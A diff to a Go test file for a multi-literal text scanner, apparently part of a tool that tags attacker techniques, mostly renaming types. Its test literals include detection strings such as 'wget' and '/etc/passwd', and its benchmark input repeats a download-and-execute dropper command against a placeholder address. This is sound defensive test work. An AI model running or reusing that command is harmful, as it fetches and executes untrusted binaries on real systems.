@@ -9,9 +9,9 @@ import (
 	"github.com/ttpcron/ttpcron/tagger/pattern"
 )
 
-const here Places = 1
+const here Fields = 1
 
-func build(literals ...string) *Set {
+func build(literals ...string) *Index {
 	var b Builder
 	for i, l := range literals {
 		b.Add(l, i, here)
@@ -19,7 +19,7 @@ func build(literals ...string) *Set {
 	return b.Build()
 }
 
-// TestScan compares the set with a search for each literal.
+// TestScan compares the index with a search for each literal.
 func TestScan(t *testing.T) {
 	literals := []string{"wget", "get", "ge", "GET ", "he", "she", "hers", "his", "/etc/passwd", "\xff\x00", "käse", "k", "ſh", "aaaa", "aab", strings.Repeat("x", 40)}
 	a := build(literals...)
@@ -31,7 +31,7 @@ func TestScan(t *testing.T) {
 			p := pieces[r.IntN(len(pieces))]
 			text += p[:r.IntN(len(p)+1)]
 		}
-		found := make(Owners, 1)
+		found := make(IDs, 1)
 		a.Scanner().Scan(text, here, found)
 		for i, l := range literals {
 			l = pattern.Fold(l)
@@ -54,7 +54,7 @@ func TestBuildTooMany(t *testing.T) {
 	}
 	s := b.Build().Scanner()
 	for i := 0; i < len(texts); i += 997 {
-		found := make(Owners, 1)
+		found := make(IDs, 1)
 		s.Reset()
 		s.Scan("-"+texts[i]+"-", here, found)
 		if !found.Has(i % 64) {
@@ -63,9 +63,9 @@ func TestBuildTooMany(t *testing.T) {
 	}
 }
 
-// TestPlaces holds that an owner is reported for the places that it wants a
+// TestFields holds that an id is reported for the fields that it requires a
 // literal in, and for each of them once.
-func TestPlaces(t *testing.T) {
+func TestFields(t *testing.T) {
 	var b Builder
 	for i, l := range []string{"/", "sh", "/tmp/"} {
 		b.Add(l, 3*i, 1)
@@ -75,10 +75,10 @@ func TestPlaces(t *testing.T) {
 	}
 	s := b.Build().Scanner()
 	for _, tt := range []struct {
-		in   Places
+		in   Fields
 		want uint64
 	}{{1, 0b001001001}, {2, 0b010010010}, {8, 0b100100100}, {3, 0b011011011}, {16, 0}, {2 | 16, 0b010010010}} {
-		found := make(Owners, 1)
+		found := make(IDs, 1)
 		s.Reset()
 		s.Scan("sh /tmp/x", 16, found)
 		s.Scan("sh /tmp/x", tt.in, found)
@@ -94,7 +94,7 @@ func FuzzScan(f *testing.F) {
 	f.Add("abc", "b", "bc", "xabcx")
 	f.Fuzz(func(t *testing.T, x, y, z, text string) {
 		a := build(x, y, z)
-		found := make(Owners, 1)
+		found := make(IDs, 1)
 		a.Scanner().Scan(text, here, found)
 		for i, l := range []string{x, y, z} {
 			if l == "" {
@@ -108,13 +108,13 @@ func FuzzScan(f *testing.F) {
 }
 
 func BenchmarkScan(b *testing.B) {
-	var set Builder
+	var builder Builder
 	r := rand.New(rand.NewPCG(5, 6))
 	for i := range 5000 {
-		set.Add(fmt.Sprintf("/%06x", r.Uint32()>>8), i, here)
+		builder.Add(fmt.Sprintf("/%06x", r.Uint32()>>8), i, here)
 	}
-	s := set.Build().Scanner()
-	found := make(Owners, 100)
+	s := builder.Build().Scanner()
+	found := make(IDs, 100)
 	text := strings.Repeat("cd /tmp; wget http://203.0.113.7/bins/x86_64 -O .x; chmod 777 .x; ./.x ssh\n", 100)
 	b.SetBytes(int64(len(text)))
 	b.ReportAllocs()
